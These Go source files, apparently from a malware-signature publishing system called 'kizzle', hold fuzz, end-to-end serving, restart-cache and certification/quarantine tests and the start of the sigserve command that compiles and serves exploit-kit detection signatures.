	f.Add("binary.html", []byte{0xff, 0xd8, 0xff, 0x00, 0x3c, 0x73})
	f.Add("deep.js", []byte("(((((((((((((((((((((((((((((((("))
	f.Fuzz(func(t *testing.T, name string, body []byte) {
		dir := t.TempDir()
		name = fuzzFileName(name, "seed.html")
		if ext := strings.ToLower(filepath.Ext(name)); ext != ".html" && ext != ".htm" && ext != ".js" {
			name += ".html"
			if len(name) > 64 {
				name = "seed.html"
			}
		}
		if err := os.WriteFile(filepath.Join(dir, name), body, 0o644); err != nil {
			t.Skip("unwritable fuzz name")
		}
		samples, err := readSamples(dir)
		if err != nil {
			return
		}
		if len(samples) != 1 {
			t.Fatalf("loader returned %d samples for one file", len(samples))
		}
		var scratch jstoken.Scratch
		for _, s := range samples {
			scratch.LexDocumentSymbols(s.Content)
			_, _ = unpack.Unpack(s.Content)
		}
	})
}
