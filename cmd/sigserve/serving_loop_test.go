// End-to-end serving-loop test: a synthetic day flows through the sharded
// pipeline (a real-HTTP loopback fleet), the compiled set is served and
// push-updated over sigdb's wire protocol, sigserve recompiles
// incrementally, and a gateway vets traffic whose verdicts are pinned
// against both the in-process path and the unpacking oracle — at 1, 2,
// and 4 workers, and across one mid-recompile worker death.
package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"kizzle"
	"kizzle/gateway"
	"kizzle/internal/shardcoord"
	"kizzle/sigdb"
	"kizzle/synth"
)

// startWorkerFleet launches n shard workers over real loopback HTTP and
// returns their base URLs, ready for a sigserve -shards flag.
func startWorkerFleet(t *testing.T, n int) []string {
	t.Helper()
	urls := make([]string, n)
	for i := 0; i < n; i++ {
		srv := httptest.NewServer(shardcoord.NewWorker().Handler())
		t.Cleanup(srv.Close)
		urls[i] = srv.URL
	}
	return urls
}

// startSigserve runs the sigserve command with the given extra flags via
// the ready-channel test hook (the initial recompile runs synchronously)
// and serves its handler over a real listener.
func startSigserve(t *testing.T, samplesDir, knownDir string, extra ...string) *httptest.Server {
	t.Helper()
	storePath := filepath.Join(t.TempDir(), "sigs.json")
	args := append([]string{
		"-store", storePath, "-samples", samplesDir, "-known", knownDir,
	}, extra...)
	ready := make(chan http.Handler, 1)
	go func() {
		if err := run(args, ready); err != nil {
			t.Error(err)
		}
	}()
	select {
	case handler := <-ready:
		srv := httptest.NewServer(handler)
		t.Cleanup(srv.Close)
		return srv
	case <-time.After(60 * time.Second):
		t.Fatal("sigserve never became ready")
		return nil
	}
}

// fetchSet pulls the published snapshot from a sigserve instance.
func fetchSet(t *testing.T, serverURL string) sigdb.Snapshot {
	t.Helper()
	client := &sigdb.Client{URL: serverURL + "/signatures"}
	snap, updated, err := client.Fetch(context.Background())
	if err != nil || !updated {
		t.Fatalf("fetch: updated=%v err=%v", updated, err)
	}
	return snap
}

// vetDay runs the fetched signature set through a gateway vetter over the
// probe documents.
func vetDay(t *testing.T, snap sigdb.Snapshot, docs []string) []gateway.Decision {
	t.Helper()
	m, _, err := snap.Matcher()
	if err != nil {
		t.Fatal(err)
	}
	return gateway.NewVetter(m).VetAll(docs)
}

// TestServingLoopEndToEnd drives the full publishing loop at three fleet
// sizes and pins every observable — published bytes, gateway verdicts,
// oracle agreement — to the in-process reference.
func TestServingLoopEndToEnd(t *testing.T) {
	day := synth.Date(time.August, 5)
	samplesDir, knownDir := writeCorpus(t)

	// Probe traffic: the day's full mix plus guaranteed-benign documents.
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 20
	stream, err := synth.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	var docs []string
	var malicious []bool
	for _, s := range stream.Day(day) {
		docs = append(docs, s.Content)
		malicious = append(malicious, s.Family.Malicious())
	}
	docs = append(docs, "<html><body>plain benign page</body></html>")
	malicious = append(malicious, false)

	// The oracle sees the same hidden corpus the publisher was seeded
	// with, under the same labels the publisher derives from the known
	// file names (writeCorpus strips spaces).
	oracle := kizzle.NewOracle()
	for _, fam := range synth.Kits() {
		oracle.AddKnown(strings.ReplaceAll(fam.String(), " ", ""), synth.Payload(fam, day-1))
	}

	// In-process reference.
	refSrv := startSigserve(t, samplesDir, knownDir)
	refSnap := fetchSet(t, refSrv.URL)
	refJSON, err := json.Marshal(refSnap.Signatures)
	if err != nil {
		t.Fatal(err)
	}
	refDecisions := vetDay(t, refSnap, docs)

	// The reference loop itself must be sound before differentials mean
	// anything: blocked verdicts agree with the oracle, and coverage of
	// the day's malicious traffic is high.
	blockedMalicious, totalMalicious := 0, 0
	for i, d := range refDecisions {
		if malicious[i] {
			totalMalicious++
		}
		if !d.Blocked {
			continue
		}
		v := oracle.Inspect(docs[i])
		if !v.Detected || v.Family != d.Family {
			t.Fatalf("doc %d: gateway blocked as %q but oracle says detected=%v family=%q",
				i, d.Family, v.Detected, v.Family)
		}
		blockedMalicious++
	}
	if blockedMalicious < totalMalicious*3/4 {
		t.Fatalf("reference loop blocked %d/%d malicious docs", blockedMalicious, totalMalicious)
	}

	for _, workers := range []int{1, 2, 4} {
		t.Run(fmt.Sprintf("workers=%d", workers), func(t *testing.T) {
			urls := startWorkerFleet(t, workers)
			srv := startSigserve(t, samplesDir, knownDir,
				"-shards", strings.Join(urls, ","),
				"-cachedir", t.TempDir())
			snap := fetchSet(t, srv.URL)
			gotJSON, err := json.Marshal(snap.Signatures)
			if err != nil {
				t.Fatal(err)
			}
			if !bytes.Equal(gotJSON, refJSON) {
				t.Fatal("fleet-published signature set diverged from in-process bytes")
			}
			if got := vetDay(t, snap, docs); !reflect.DeepEqual(got, refDecisions) {
				t.Fatal("fleet-backed gateway verdicts diverged from in-process path")
			}
		})
	}

	// Push path: a second day compiled by the (sharded) analysis pipeline
	// is POSTed to the publisher, whose scan endpoint then serves verdicts
	// from the new version — recompiling only what changed.
	t.Run("push-and-rescan", func(t *testing.T) {
		urls := startWorkerFleet(t, 2)
		srv := startSigserve(t, samplesDir, knownDir, "-shards", strings.Join(urls, ","))

		// Warm the scan matcher on v1 so the push exercises the
		// incremental rebuild, not a cold compile.
		firstScan := postScan(t, srv.URL, docs)
		if firstScan.Version != 1 {
			t.Fatalf("pre-push scan version = %d, want 1", firstScan.Version)
		}

		day2 := day + 1
		c := kizzle.New(kizzle.WithShardWorkers(urls...))
		for _, fam := range synth.Kits() {
			c.AddKnown(fam.String(), synth.Payload(fam, day2-1))
		}
		cfg := synth.DefaultConfig()
		cfg.BenignPerDay = 20
		stream, err := synth.NewStream(cfg)
		if err != nil {
			t.Fatal(err)
		}
		var batch []kizzle.Sample
		var day2docs []string
		for _, s := range stream.Day(day2) {
			batch = append(batch, kizzle.Sample{ID: s.ID, Content: s.Content})
			day2docs = append(day2docs, s.Content)
		}
		res, err := c.Process(batch)
		if err != nil {
			t.Fatal(err)
		}
		body, err := json.Marshal(map[string]any{"signatures": res.Signatures})
		if err != nil {
			t.Fatal(err)
		}
		resp, err := http.Post(srv.URL+"/signatures", "application/json", bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusOK {
			t.Fatalf("push status = %d", resp.StatusCode)
		}

		scan := postScan(t, srv.URL, day2docs)
		if scan.Version != 2 {
			t.Fatalf("post-push scan version = %d, want 2", scan.Version)
		}
		// The served verdicts must equal a direct build of the pushed set.
		m, err := kizzle.NewMatcher(res.Signatures)
		if err != nil {
			t.Fatal(err)
		}
		for i, v := range scan.Verdicts {
			if want := len(m.Scan(day2docs[i])) > 0; v.Blocked != want {
				t.Fatalf("doc %d: served blocked=%v, direct matcher=%v", i, v.Blocked, want)
			}
		}
	})
}

// postScan submits a batch to the publisher's /scan endpoint.
func postScan(t *testing.T, serverURL string, docs []string) scanResponse {
	t.Helper()
	body, err := json.Marshal(scanRequest{Documents: docs})
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.Post(serverURL+"/scan", "application/json", bytes.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("scan status = %d", resp.StatusCode)
	}
	var out scanResponse
	if err := json.NewDecoder(resp.Body).Decode(&out); err != nil {
		t.Fatal(err)
	}
	return out
}

// TestServingLoopWorkerDeath kills one of two fleet workers partway into
// the publisher's recompile; coordinator failover must absorb the death
// and the published set must still be byte-identical to the in-process
// reference.
func TestServingLoopWorkerDeath(t *testing.T) {
	samplesDir, knownDir := writeCorpus(t)

	refSrv := startSigserve(t, samplesDir, knownDir)
	refJSON, err := json.Marshal(fetchSet(t, refSrv.URL).Signatures)
	if err != nil {
		t.Fatal(err)
	}

	// Worker 0 is healthy; worker 1 serves two work units and then dies
	// mid-recompile (connection-level failure from then on).
	healthy := httptest.NewServer(shardcoord.NewWorker().Handler())
	t.Cleanup(healthy.Close)
	var served atomic.Int64
	dying := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if served.Add(1) > 2 {
			// Drop the connection without a response, as a crashed
			// process would.
			if hj, ok := w.(http.Hijacker); ok {
				if conn, _, err := hj.Hijack(); err == nil {
					conn.Close()
					return
				}
			}
			http.Error(w, "worker dead", http.StatusServiceUnavailable)
			return
		}
		shardcoord.NewWorker().Handler().ServeHTTP(w, r)
	}))
	t.Cleanup(dying.Close)

	srv := startSigserve(t, samplesDir, knownDir,
		"-shards", healthy.URL+","+dying.URL)
	gotJSON, err := json.Marshal(fetchSet(t, srv.URL).Signatures)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(gotJSON, refJSON) {
		t.Fatal("signature set diverged after mid-recompile worker death")
	}
	if served.Load() <= 2 {
		t.Fatalf("dying worker served %d units — death never happened mid-recompile", served.Load())
	}
}

// TestPublisherRestartKeepsWarmCache pins the restart economics the
// -cachedir flag buys: a restarted publisher that reloads its cache and
// reseeds the same known corpus re-labels day one with zero family sweeps
// (content-derived generations survive the restart) and republishes
// without a version bump.
func TestPublisherRestartKeepsWarmCache(t *testing.T) {
	samplesDir, knownDir := writeCorpus(t)
	cacheDir := t.TempDir()
	storePath := filepath.Join(t.TempDir(), "sigs.json")

	store, err := sigdb.Open(storePath)
	if err != nil {
		t.Fatal(err)
	}
	pub, err := newPublisher(store, samplesDir, knownDir, cacheDir, pathSpec{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	st1, err := pub.recompile()
	if err != nil {
		t.Fatal(err)
	}
	if st1.Version != 1 || !st1.Changed {
		t.Fatalf("first recompile = v%d changed=%v", st1.Version, st1.Changed)
	}
	if st1.Compile.LabelSweeps == 0 {
		t.Fatal("cold recompile swept nothing — sweep accounting broken")
	}

	// Same process, steady state: no corpus change, warm cache → no
	// sweeps, no version bump.
	st2, err := pub.recompile()
	if err != nil {
		t.Fatal(err)
	}
	if st2.Changed || st2.Version != 1 {
		t.Fatalf("steady-state recompile bumped to v%d (changed=%v)", st2.Version, st2.Changed)
	}
	if st2.Compile.LabelSweeps != 0 {
		t.Fatalf("steady-state recompile swept %d families, want 0", st2.Compile.LabelSweeps)
	}
	if st2.KnownChanged != 0 {
		t.Fatalf("unchanged known dir re-seeded %d payloads", st2.KnownChanged)
	}

	// Restart: a fresh publisher over the same store, cache dir, and known
	// dir. Content-derived generations make the persisted label verdicts
	// valid again, so even the first recompile after restart is free of
	// family sweeps.
	store2, err := sigdb.Open(storePath)
	if err != nil {
		t.Fatal(err)
	}
	pub2, err := newPublisher(store2, samplesDir, knownDir, cacheDir, pathSpec{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	st3, err := pub2.recompile()
	if err != nil {
		t.Fatal(err)
	}
	if st3.Changed || st3.Version != 1 {
		t.Fatalf("post-restart recompile bumped to v%d (changed=%v)", st3.Version, st3.Changed)
	}
	if st3.Compile.LabelSweeps != 0 {
		t.Fatalf("post-restart recompile swept %d families, want 0 (warm cache lost)", st3.Compile.LabelSweeps)
	}

	// A changed known payload after restart invalidates exactly that
	// family: sweeps return, and only for the touched family.
	if err := os.WriteFile(filepath.Join(knownDir, "Extra-kit.txt"),
		[]byte(synth.Payload(synth.RIG, synth.Date(time.August, 3))), 0o644); err != nil {
		t.Fatal(err)
	}
	st4, err := pub2.recompile()
	if err != nil {
		t.Fatal(err)
	}
	if st4.KnownChanged != 1 {
		t.Fatalf("new known file counted as %d changes, want 1", st4.KnownChanged)
	}
	if st4.Compile.LabelSweeps == 0 {
		t.Fatal("new family produced no label sweeps")
	}
	if st4.Compile.LabelSweeps >= st1.Compile.LabelSweeps {
		t.Fatalf("one-family bump swept %d ≥ cold %d — invalidation is not per-family",
			st4.Compile.LabelSweeps, st1.Compile.LabelSweeps)
	}
}

// TestKnownFileModifiedInPlace pins the corpus-rebuild semantics: editing
// a known payload file replaces its old content (the retracted payload
// must not stay live in the long-lived compiler), so a long-lived
// publisher and a freshly started one over the same directory publish the
// same bytes.
func TestKnownFileModifiedInPlace(t *testing.T) {
	samplesDir, knownDir := writeCorpus(t)

	store, err := sigdb.Open(filepath.Join(t.TempDir(), "sigs.json"))
	if err != nil {
		t.Fatal(err)
	}
	pub, err := newPublisher(store, samplesDir, knownDir, "", pathSpec{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := pub.recompile(); err != nil {
		t.Fatal(err)
	}

	// Retract one family's payload by overwriting its file with a
	// different day's capture, then recompile the long-lived publisher.
	day := synth.Date(time.August, 5)
	name := strings.ReplaceAll(synth.RIG.String(), " ", "") + ".txt"
	if err := os.WriteFile(filepath.Join(knownDir, name),
		[]byte(synth.Payload(synth.RIG, day-3)), 0o644); err != nil {
		t.Fatal(err)
	}
	st, err := pub.recompile()
	if err != nil {
		t.Fatal(err)
	}
	if st.KnownChanged != 1 {
		t.Fatalf("modified file counted as %d changes, want 1", st.KnownChanged)
	}

	// A publisher started fresh over the modified directory — what a
	// restart would see — must publish exactly the same bytes.
	freshStore, err := sigdb.Open(filepath.Join(t.TempDir(), "sigs.json"))
	if err != nil {
		t.Fatal(err)
	}
	fresh, err := newPublisher(freshStore, samplesDir, knownDir, "", pathSpec{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := fresh.recompile(); err != nil {
		t.Fatal(err)
	}
	live, err := json.Marshal(store.Snapshot().Signatures)
	if err != nil {
		t.Fatal(err)
	}
	restarted, err := json.Marshal(freshStore.Snapshot().Signatures)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(live, restarted) {
		t.Fatal("long-lived publisher diverged from a fresh start over the same known dir")
	}
}
