// Certification battery: the dual-path publish differential (every
// supported pair of diverse execution paths must agree byte for byte on
// the published set) and the quarantine drill (a worker returning
// well-formed but wrong clustering results must be caught by the
// verification compile, quarantined with both artifacts on the audit
// log, and must never move the serving version).
package main

import (
	"context"
	"encoding/json"
	"errors"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"sync/atomic"
	"testing"
	"time"

	"kizzle"
	"kizzle/internal/pipeline"
	"kizzle/internal/shardcoord"
	"kizzle/sigdb"
	"kizzle/synth"
)

// referenceDigest compiles the corpus once through the plain in-process
// path and returns the published set's content digest — the value every
// certified path pair must reproduce.
func referenceDigest(t *testing.T, samplesDir, knownDir string) string {
	t.Helper()
	store := sigdb.New()
	pub, err := newPublisher(store, samplesDir, knownDir, "", pathSpec{}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := pub.recompile(); err != nil {
		t.Fatal(err)
	}
	digest, err := store.Snapshot().SetDigest()
	if err != nil {
		t.Fatal(err)
	}
	return digest
}

// TestCertificationDifferential runs a certified publish over every
// path-diversity axis — in-process vs fleet at 1/2/4 shards, stream vs
// batch dispatch on the same fleet, permuted vs canonical schedule, and
// affinity vs none — and requires each pair to agree bit-identically
// with each other and with the in-process reference, landing version 1
// with a signed attestation that records both path descriptors.
func TestCertificationDifferential(t *testing.T) {
	if testing.Short() {
		t.Skip("compiles the synthetic day twice per case")
	}
	samplesDir, knownDir := writeCorpus(t)
	urls := startWorkerFleet(t, 4)
	want := referenceDigest(t, samplesDir, knownDir)

	cases := []struct {
		name    string
		primary pathSpec
		verify  pathSpec
	}{
		{"fleet1_vs_inprocess", pathSpec{shardURLs: urls[:1]}, pathSpec{dispatch: "batch", seed: 11}},
		{"fleet2_vs_inprocess", pathSpec{shardURLs: urls[:2]}, pathSpec{dispatch: "batch", seed: 11}},
		{"fleet4_vs_inprocess", pathSpec{shardURLs: urls[:4]}, pathSpec{dispatch: "batch", seed: 11}},
		{"stream_vs_batch", pathSpec{shardURLs: urls[:2]}, pathSpec{shardURLs: urls[:2], dispatch: "batch", noAffinity: true, seed: 11}},
		{"permuted_vs_canonical", pathSpec{shardURLs: urls[:2], seed: 99}, pathSpec{shardURLs: urls[:2]}},
		{"affinity_vs_none", pathSpec{shardURLs: urls[:2]}, pathSpec{shardURLs: urls[:2], noAffinity: true}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			store := sigdb.New()
			store.SetCertKey([]byte("differential-key"))
			pub, err := newPublisher(store, samplesDir, knownDir, "", tc.primary, &certConfig{verify: tc.verify})
			if err != nil {
				t.Fatal(err)
			}
			st, err := pub.recompile()
			if err != nil {
				t.Fatalf("certified recompile (%s vs %s): %v",
					tc.primary.descriptor(), tc.verify.descriptor(), err)
			}
			if st.Version != 1 || !st.Changed {
				t.Fatalf("publish landed v%d changed=%v, want v1 true", st.Version, st.Changed)
			}
			att, ok := store.Attestation(1)
			if !ok {
				t.Fatal("certified publish left no attestation")
			}
			if att.SetDigest != want {
				t.Errorf("published digest %s, in-process reference %s — paths disagree with the reference", att.SetDigest, want)
			}
			if att.Primary != tc.primary.descriptor() || att.Verify != tc.verify.descriptor() {
				t.Errorf("attestation descriptors %v/%v, want %v/%v",
					att.Primary, att.Verify, tc.primary.descriptor(), tc.verify.descriptor())
			}
			if !att.VerifyMAC([]byte("differential-key")) {
				t.Error("attestation not signed under the store's cert key")
			}
			if got := pub.metrics()["certified"].(int64); got != 1 {
				t.Errorf("certified metric = %d, want 1", got)
			}
		})
	}
}

// TestVerifyPathSpec pins the flag-level derivation of the verification
// path from the primary: dispatch always flips, fanout (output-sensitive)
// is always pinned, fleet mode requires shards and inverts affinity, and
// unknown modes are rejected.
func TestVerifyPathSpec(t *testing.T) {
	fleet := pathSpec{shardURLs: []string{"http://a", "http://b"}, fanout: 3}
	v, err := verifyPathSpec(fleet, "inprocess", 7)
	if err != nil {
		t.Fatal(err)
	}
	if v.mode() != "in-process" || v.dispatch != "batch" || v.fanout != 3 || v.seed != 7 {
		t.Errorf("inprocess verify spec = %+v", v)
	}
	if got := v.descriptor().String(); got != "in-process/batch/seed=7" {
		t.Errorf("descriptor = %q", got)
	}

	v, err = verifyPathSpec(fleet, "fleet", 7)
	if err != nil {
		t.Fatal(err)
	}
	if v.mode() != "fleet" || v.dispatch != "batch" || !v.noAffinity {
		t.Errorf("fleet verify spec = %+v", v)
	}
	if got := fleet.descriptor().String(); got != "fleet/2/stream/affinity" {
		t.Errorf("primary descriptor = %q", got)
	}

	batchPrimary := pathSpec{shardURLs: fleet.shardURLs, dispatch: "batch"}
	if v, err = verifyPathSpec(batchPrimary, "fleet", 0); err != nil || v.dispatch != "stream" {
		t.Errorf("batch primary must verify over stream dispatch: %+v err=%v", v, err)
	}

	if _, err := verifyPathSpec(pathSpec{}, "fleet", 0); err == nil {
		t.Error("fleet verification without shards must fail")
	}
	if _, err := verifyPathSpec(fleet, "remote", 0); err == nil {
		t.Error("unknown verification mode must fail")
	}
}

// tamperableWorker wraps a real shard worker and, when armed, answers
// /partition with a fabricated result: every sequence folded into one
// giant cluster. The response is well-formed — indices cover the
// partition exactly once, the representative is a member — so it passes
// the coordinator's wire validation; only a recompile through an
// independent path can tell it lied. Every other endpoint (edge sweeps,
// resident-set fills) passes through to the real worker.
type tamperableWorker struct {
	real  http.Handler
	armed atomic.Bool
}

func (tw *tamperableWorker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if !tw.armed.Load() || r.URL.Path != "/partition" {
		tw.real.ServeHTTP(w, r)
		return
	}
	var req shardcoord.PartitionRequest
	if err := json.NewDecoder(r.Body).Decode(&req); err != nil {
		http.Error(w, err.Error(), http.StatusBadRequest)
		return
	}
	n := len(req.Partition.Seqs)
	if n == 0 {
		http.Error(w, "empty partition", http.StatusBadRequest)
		return
	}
	all := make([]int, n)
	for i := range all {
		all[i] = i
	}
	var resp shardcoord.PartitionResponse
	if req.PreReduce {
		resp.Reduced = &pipeline.ReducedPartition{Clusters: [][]int{all}, Reps: []int{0}, Noise: []int{}}
	} else {
		resp.Clusters = [][]int{all}
		resp.Noise = []int{}
	}
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(&resp)
}

// TestCertificationQuarantine is the corrupted-worker drill, the
// acceptance scenario of the certification layer end to end:
//
//  1. a clean certified publish lands v1;
//  2. one of the two workers starts answering /partition with fabricated
//     (but wire-valid) clusters while the corpus gains a day — the
//     primary fleet compile is now wrong, the in-process verification
//     compile is not, so the publish quarantines: v1 keeps serving, both
//     artifacts and the disagreement land on the persistent audit log,
//     and a strict client polling the store sees no update at all;
//  3. the worker heals and the next recompile publishes v2, attested.
func TestCertificationQuarantine(t *testing.T) {
	if testing.Short() {
		t.Skip("compiles the synthetic day several times")
	}
	samplesDir, knownDir := writeCorpus(t)

	tamper := &tamperableWorker{real: shardcoord.NewWorker().Handler()}
	tamperSrv := httptest.NewServer(tamper)
	t.Cleanup(tamperSrv.Close)
	honest := httptest.NewServer(shardcoord.NewWorker().Handler())
	t.Cleanup(honest.Close)
	urls := []string{tamperSrv.URL, honest.URL}

	storePath := filepath.Join(t.TempDir(), "sigs.json")
	store, err := sigdb.Open(storePath)
	if err != nil {
		t.Fatal(err)
	}
	key := []byte("quarantine-drill-key")
	store.SetCertKey(key)
	primary := pathSpec{shardURLs: urls}
	verify := pathSpec{dispatch: "batch", seed: defaultCertSeed}
	pub, err := newPublisher(store, samplesDir, knownDir, "", primary, &certConfig{verify: verify})
	if err != nil {
		t.Fatal(err)
	}

	// Phase 1: clean certified publish.
	st, err := pub.recompile()
	if err != nil {
		t.Fatalf("clean certified recompile: %v", err)
	}
	if st.Version != 1 || !st.Changed {
		t.Fatalf("clean publish landed v%d changed=%v, want v1 true", st.Version, st.Changed)
	}
	att1, ok := store.Attestation(1)
	if !ok {
		t.Fatal("clean publish left no attestation")
	}
	v1Digest, err := store.Snapshot().SetDigest()
	if err != nil {
		t.Fatal(err)
	}

	// A strict replica deploys v1.
	mux := http.NewServeMux()
	mux.Handle("/signatures", store.Handler())
	mux.Handle("/attest", store.AttestHandler())
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	replica := &sigdb.Client{URL: srv.URL + "/signatures", Strict: true, AttestURL: srv.URL + "/attest", CertKey: key}
	ctx := context.Background()
	if snap, ok, err := replica.Fetch(ctx); err != nil || !ok || snap.Version != 1 {
		t.Fatalf("strict replica fetch of v1: ok=%v err=%v", ok, err)
	}

	// Phase 2: arm the tamper and move the corpus forward a day, so the
	// next cycle must genuinely re-cluster (and would publish v2 if both
	// paths agreed).
	tamper.armed.Store(true)
	day := synth.Date(time.August, 6)
	cfg := synth.DefaultConfig()
	cfg.BenignPerDay = 20
	stream, err := synth.NewStream(cfg)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range stream.Day(day) {
		if err := os.WriteFile(filepath.Join(samplesDir, s.ID+".html"), []byte(s.Content), 0o644); err != nil {
			t.Fatal(err)
		}
	}

	if _, err := pub.recompile(); err == nil {
		t.Fatal("tampered recompile published — the fabricated clusters were not caught")
	} else if !errors.Is(err, errQuarantined) {
		t.Fatalf("tampered recompile failed with %v, want errQuarantined", err)
	}

	// The serving version never moved and the set is bit-identical.
	if v := store.Version(); v != 1 {
		t.Fatalf("serving version moved to %d during quarantine", v)
	}
	if d, err := store.Snapshot().SetDigest(); err != nil || d != v1Digest {
		t.Fatalf("serving set changed during quarantine: %s vs %s (err=%v)", d, v1Digest, err)
	}
	if got := pub.metrics()["quarantined"].(int64); got != 1 {
		t.Errorf("quarantined metric = %d, want 1", got)
	}

	// The strict replica sees no update at all — the quarantined set was
	// never installed, so the poll is a 304 and v1 keeps serving.
	if _, ok, err := replica.Fetch(ctx); err != nil || ok {
		t.Fatalf("replica poll during quarantine: ok=%v err=%v, want quiet 304", ok, err)
	}
	resp, err := http.Get(srv.URL + "/attest?version=1")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Errorf("/attest?version=1 returned %d during quarantine, want 200", resp.StatusCode)
	}

	// Both artifacts and the disagreement are recoverable from the audit
	// log — including after a restart, via the persisted JSONL file.
	reopened, err := sigdb.Open(storePath)
	if err != nil {
		t.Fatal(err)
	}
	recs := reopened.AuditRecords()
	if len(recs) != 2 || recs[0].Kind != sigdb.AuditAttest || recs[1].Kind != sigdb.AuditQuarantine {
		t.Fatalf("audit log: %d records, want attest then quarantine", len(recs))
	}
	q := recs[1].Quarantine
	if q.ServingVersion != 1 {
		t.Errorf("quarantine records serving version %d, want 1", q.ServingVersion)
	}
	if q.PrimaryDigest == q.VerifyDigest {
		t.Error("quarantine records identical digests for a disagreement")
	}
	var primarySigs, verifySigs []kizzle.Signature
	if err := json.Unmarshal(q.PrimarySet, &primarySigs); err != nil {
		t.Fatalf("quarantined primary artifact unparseable: %v", err)
	}
	if err := json.Unmarshal(q.VerifySet, &verifySigs); err != nil {
		t.Fatalf("quarantined verification artifact unparseable: %v", err)
	}
	pd, err := sigdb.SetDigest(primarySigs, nil)
	if err != nil {
		t.Fatal(err)
	}
	vd, err := sigdb.SetDigest(verifySigs, nil)
	if err != nil {
		t.Fatal(err)
	}
	if pd != q.PrimaryDigest || vd != q.VerifyDigest {
		t.Error("embedded artifacts do not hash to the recorded digests")
	}

	// Phase 3: the worker heals; the next cycle certifies and publishes.
	tamper.armed.Store(false)
	st, err = pub.recompile()
	if err != nil {
		t.Fatalf("post-recovery recompile: %v", err)
	}
	if st.Version != 2 || !st.Changed {
		t.Fatalf("post-recovery publish landed v%d changed=%v, want v2 true", st.Version, st.Changed)
	}
	att2, ok := store.Attestation(2)
	if !ok {
		t.Fatal("post-recovery publish left no attestation")
	}
	// The healed publish must match what the honest verification path
	// computed during the quarantine — same corpus, same honest output.
	if att2.SetDigest != vd {
		t.Errorf("post-recovery digest %s, quarantined verification artifact %s", att2.SetDigest, vd)
	}
	if att1.SetDigest == att2.SetDigest {
		t.Error("day-2 corpus published the day-1 set")
	}
	if snap, ok, err := replica.Fetch(ctx); err != nil || !ok || snap.Version != 2 {
		t.Fatalf("strict replica fetch of v2: ok=%v err=%v", ok, err)
	}
}
