// Command sigserve is the publisher side of the signature distribution
// channel: it serves a sigdb store over HTTP for kizzlegate (and any other
// consumer) to poll — or long-poll on /signatures/watch, which pushes a
// new version to every parked replica the moment it publishes — and can
// optionally watch a samples directory and recompile signatures on an
// interval — the "signatures for malware variants observed the same day
// within a matter of hours" loop. It also hosts the fleet's shared
// verdict cache on /verdicts, so gateway replicas pointed at it scan
// each hot document once fleet-wide per signature version.
//
// The recompilation loop is incremental end to end: one long-lived
// compiler carries the content-addressed cache across recompiles (and,
// with -cachedir, across restarts), known payloads re-seed the corpus only
// when their files change (bumping just that family's generation, so only
// its label verdicts recompute), an unchanged signature set publishes
// without a version bump, and with -shards the clustering stage runs on
// the same kizzleshard fleet the analysis pipeline uses. Without -shards
// everything runs in-process — the fleet is an accelerator, never a
// requirement.
//
// Usage:
//
//	sigserve -store sigs.json -listen :9090 \
//	         [-samples corpus/ -known known/ -recompile 1h] \
//	         [-shards http://shard-0:9191,http://shard-1:9191] \
//	         [-dispatch stream|batch] [-fanout 8] [-cachedir cache/]
package main

import (
	"context"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"log"
	"net/http"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"sync"
	"time"

	"sync/atomic"

	"kizzle"
	"kizzle/gateway"
	"kizzle/internal/contentcache"
	"kizzle/internal/servemetrics"
	"kizzle/internal/verdictcache"
	"kizzle/sigdb"
)

func main() {
	if err := run(os.Args[1:], nil); err != nil {
		fmt.Fprintln(os.Stderr, "sigserve:", err)
		os.Exit(1)
	}
}

// run configures the server. When ready is non-nil the handler is sent to
// it instead of binding a listener (test hook); recompilation still runs
// once synchronously so tests observe a populated store.
func run(args []string, ready chan<- http.Handler) error {
	fs := flag.NewFlagSet("sigserve", flag.ContinueOnError)
	storePath := fs.String("store", "", "sigdb JSON file to serve (required)")
	listen := fs.String("listen", ":9090", "address to serve on")
	samplesDir := fs.String("samples", "", "directory of samples to recompile from (optional)")
	knownDir := fs.String("known", "", "directory of known unpacked payloads (required with -samples)")
	recompile := fs.Duration("recompile", time.Hour, "recompilation interval")
	shards := fs.String("shards", "", "comma-separated kizzleshard worker base URLs to cluster on (empty = in-process)")
	dispatch := fs.String("dispatch", "stream", "shard dispatch mode: stream or batch (protocol v1)")
	fanout := fs.Int("fanout", 0, "streaming partition fanout (0 = default)")
	cacheDir := fs.String("cachedir", "", "persist the compiler's content cache here across restarts")
	profileFlag := fs.String("profile", "js", "comma-separated ingest profiles to compile (e.g. js,webkit); with several, -samples/-known/-cachedir hold one subdirectory per profile and non-js families publish namespaced (profile/family)")
	yaraPath := fs.String("yara", "", "write every changed publish as a YARA ruleset to this file (requires -samples)")
	certify := fs.Bool("certify", false, "certify every publish: recompile through a second, diverse execution path and require bit-identical agreement")
	certKey := fs.String("certkey", "", "HMAC key for signing attestations (share with strict consumers)")
	certVerify := fs.String("certverify", "inprocess", "verification path: inprocess or fleet")
